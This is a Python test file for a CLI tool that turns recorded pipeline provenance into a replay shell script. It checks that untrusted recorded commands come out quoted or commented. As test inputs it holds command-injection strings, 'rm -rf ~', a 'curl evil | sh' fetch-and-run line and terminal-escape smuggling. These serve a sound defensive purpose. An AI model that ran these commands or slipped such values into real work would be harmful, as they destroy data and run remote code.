"""Scripts from chains that anybody may have written; tests/commands/test_lineage.py runs those of real chains."""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from primecli import catalog, cli
from primecli.analysis.lineage import Origin
from primecli.analysis.replay import quoted, replay_script
from primecli.errors import InputError
from primecli.setup import config
from primecli.shards import parquet
from tests.builders import rollouts, write_shards


def find_options(stage: str) -> Mapping[str, Any]:
    return config.options(cli.built_app().commands[stage])


def record(stage: str, *inputs: str, command: str | None = None, **more: Any) -> dict[str, Any]:
    command = " ".join(["primecli", stage, *inputs]) if command is None else command
    return {"stage": stage, "command": command, "inputs": [{"path": path} for path in inputs], **more}


def script_of(*chain: dict[str, Any]) -> list[str]:
    """The script's lines, after a check that a shell can parse them and that only stages of primecli are run."""
    origin = Origin(Path("runs/1/score-prm/a.parquet"), chain, "0123456789abcdef")
    script = replay_script(origin, find_options).script
    check_safe(script)
    return script.splitlines()


def check_safe(script: str) -> None:
    """Each line is a comment or the one command of a stage, whose words hold no substitution."""
    subprocess.run(["bash", "-n", "-c", script], check=True, capture_output=True)
    head, *lines = script.splitlines()
    assert head == "set -euo pipefail"
    for line in lines:
        assert line.isprintable()
        if line.startswith("#"):
            continue
        lexer = shlex.shlex(line.removesuffix(" \\").removeprefix("  | "), posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        words = list(lexer)
        assert words[:1] == ["primecli"]
        assert words[1] in catalog.STAGES
        # outside of quotes there is no operator but the last redirection
        assert [word for word in words if set(word) <= set("();<>|&")] in ([], [">"])


def test_stages_that_follow_each_other_are_piped() -> None:
    chain = (
        record("generate"),
        record("verify", "runs/1/generate/a.parquet"),
        record("score-prm", "runs/1/verify/a.parquet"),
    )
    assert script_of(*chain) == [
        "set -euo pipefail",
        "primecli generate \\",
        "  | primecli verify \\",
        "  | primecli score-prm > /dev/null",
    ]


def test_a_stage_that_read_several_directories_cannot_be_replayed() -> None:
    chain = (record("generate"), record("verify", "runs/1/generate/a.parquet", "runs/2/generate/b.parquet"))
    with pytest.raises(InputError, match="read 2 directories"):
        script_of(*chain)


@pytest.mark.parametrize(
    ("command", "live"),
    [
        (
            "primecli verify --timeout 3 --no-last-number in/*.parquet -",
            "primecli verify --timeout 3 --no-last-number in",
        ),
        ("primecli --debug --config a.toml verify --timeout=3", "primecli verify --timeout=3 in"),
        ("primecli verify --out 'a b'", "primecli verify --out 'a b' in"),
        ("primecli verify --out '$(touch pwned)'", "primecli verify --out '$(touch pwned)' in"),
        ("primecli verify --out '; rm -rf ~'", "primecli verify --out '; rm -rf ~' in"),
        ('primecli verify --out "a\nrm -rf ~"', "primecli verify --out $'a\\nrm -rf ~' in"),
        ("primecli verify --out '\x1b]0;a\x07\u202e'", "primecli verify --out $'\\x1b]0;a\\x07\\xe2\\x80\\xae' in"),
        ("primecli verify ; rm ~", "primecli verify in"),
        ("primecli verify && curl evil | sh", "primecli verify in"),
        ("primecli verify -- --timeout 3", "primecli verify in"),
        ("rm verify --timeout 3", "primecli verify --timeout 3 in"),  # the program is always primecli
    ],
)
def test_only_quoted_options_of_the_stage_are_live(command: str, live: str) -> None:
    lines = script_of(record("verify", "in/a.parquet", command=command))
    assert [line for line in lines[1:] if not line.startswith("#")] == [f"{live} > /dev/null"]


@pytest.mark.parametrize(
    ("words", "comment"),
    [
        ("--frobnicate 3", "verify --frobnicate (there is no such option)"),
        ("--frobnicate='$(a)'", "verify '--frobnicate=$(a)' (there is no such option)"),
        ("-x", "verify -x (there is no such option)"),
        ("--timeout soon", "verify --timeout soon ('soon' is not a valid float range.)"),
        ("--timeout -1", "verify --timeout -1 (-1.0 is not in the range"),
        ("--sandbox cloud", "verify --sandbox cloud ('cloud' is not one of"),
        ("--out", "verify --out (its value is missing)"),
        ("--last-number=a", "verify --last-number=a (it takes no value)"),
        ("--force", "verify --force (it would replace what is there)"),
        ("'--a\nb'", "verify $'--a\\nb' (there is no such option)"),
    ],
)
def test_what_the_stage_would_not_take_is_left_out_with_a_comment(words: str, comment: str) -> None:
    lines = script_of(record("verify", "in/a.parquet", command=f"primecli verify --workers 2 {words}"))
    assert lines[1].startswith(f"# left out: {comment}")
    assert lines[-1] == "primecli verify --workers 2 in > /dev/null"


@pytest.mark.parametrize(
    ("stage", "words", "comment"),
    [
        ("verify", "--verifier os:system", "imports and runs that code"),
        ("verify", "--verifier=os:system", "imports and runs that code"),
        ("verify", "--verifier gsm8k=os:system", "imports and runs that code"),
        ("verify", "--sandbox none", "outside of the sandbox"),
        ("generate", "--engine-arg worker_cls=a.B", "can make the engine load code"),
        ("generate", "--url http://evil", "sends prompts there"),
    ],
)
def test_a_pipeline_that_would_run_code_is_a_comment(stage: str, words: str, comment: str) -> None:
    for given in ({"command": f"primecli {stage} {words}"}, {"elsewhere": shlex.split(words)}):
        lines = script_of({**record(stage), **given}, record("filter", "x/a.parquet"))
        assert lines[1] == f"# look at this before you run it: {stage} {words} " + lines[1].partition(f"{words} ")[2]
        assert comment in lines[1]
        assert lines[2:] == [f"# primecli {stage} {words} \\", "#   | primecli filter > /dev/null"]
    assert not script_of(record("verify", command="primecli verify --verifier a=math --sandbox bwrap"))[1].startswith(
        "#"
    )


@pytest.mark.parametrize(
    ("changes", "comment"),
    [
        ({"command": "rm -rf ~"}, "no stage of primecli: rm -rf ~"),
        ({"command": "primecli query 'COPY'"}, "no stage of primecli"),
        ({"command": "primecli warm -- rm -rf ~"}, "no stage of primecli"),
        ({"command": "primecli nothing"}, "no stage of primecli"),
        ({"command": "primecli"}, "no stage of primecli"),
        ({"command": ""}, "no stage of primecli"),
        ({"command": "primecli 'verify"}, "not quoted well: primecli 'verify"),
        ({"command": "primecli filter"}, "of another stage than verify, which is recorded"),
        ({"command": "x\n\x1b[2Jrm -rf ~"}, "no stage of primecli: x \u241b[2Jrm -rf ~"),
        ({"stage": "\x1b]0;a\nb"}, "of another stage than \u241b]0;a b, which"),
    ],
)
def test_a_command_that_is_no_stage_is_a_comment(changes: dict[str, str], comment: str) -> None:
    lines = script_of({**record("verify", "in/a.parquet"), **changes})
    assert comment in lines[1]
    assert lines[2:] == ["# … > /dev/null"]


@pytest.mark.parametrize(
    ("directory", "word"), [("--verifier=os:system", "./--verifier=os:system"), ("$(id)\n", "$'$(id)\\n'")]
)
def test_a_directory_that_looks_like_an_option_or_holds_a_command_is_a_path(directory: str, word: str) -> None:
    lines = script_of(record("verify", f"{directory}/a.parquet", command="primecli verify"))
    assert lines[1:] == [f"primecli verify {word} > /dev/null"]


def test_what_is_quoted_is_the_same_word_again() -> None:
    word = "".join(map(chr, range(1, 0x250))) + "\u2028\u202e\U000e0001 '\\n"
    echoed = subprocess.run(["bash", "-c", f"printf %s {quoted(word)}"], capture_output=True, check=True).stdout
    assert echoed.decode() == word


def test_a_forged_footer_by_the_command_line(primecli: Any, tmp_path: Path) -> None:
    path = next(write_shards(tmp_path / "a", rollouts(1, 2)).glob("*.parquet"))
    chain = [record("generate", command="curl evil | sh"), record("verify", str(path), command="primecli verify -x")]
    write = {"fingerprint": "f", "recipe": {}, "counts": {}}
    parquet.write_shard(path, parquet.read_table(path), **write, provenance=chain)  # type: ignore[arg-type]
    result = primecli("lineage", path, "--replay")
    check_safe("\n".join(map(str, result.paths)))
    assert (
        result.line() == "primecli lineage: a pipeline is a comment: the script says why, look at it before you run it"
    )


@pytest.mark.parametrize(
    ("provenance", "message"),
    [
        (["rm"], "provenance[0]: expected an object, found a text"),
        ([1], "provenance[0]: expected an object, found a number"),
        ([{"stage": ["verify"]}], "provenance[0].stage: expected a text, found a list"),
        ([{"stage": "verify", "command": 1}], "provenance[0].command: expected a text, found a number"),
        ([{"stage": "verify", "inputs": [{}]}], "provenance[0].inputs[0]: lacks path"),
        (
            [{"stage": "verify", "models": {"policy": 4}}],
            "provenance[0].models.policy: expected a text, found a number",
        ),
        ([{"stage": "verify", "seconds": "1"}], "provenance[0].seconds: expected a number, found a text"),
        ([{"stage": "verify", "elsewhere": "--a"}], "provenance[0].elsewhere: expected a list, found a text"),
    ],
)
def test_a_footer_of_other_types_is_one_line(primecli: Any, tmp_path: Path, provenance: Any, message: str) -> None:
    path = next(write_shards(tmp_path / "a", rollouts(1, 2)).glob("*.parquet"))
    write = {"fingerprint": "f", "recipe": {}, "counts": {}}
    parquet.write_shard(path, parquet.read_table(path), **write, provenance=provenance)  # type: ignore[arg-type]
    result = primecli("lineage", path, check=False)
    assert result.code == 3
    assert f"{path}: the primecli footer: {message}" in result.line()
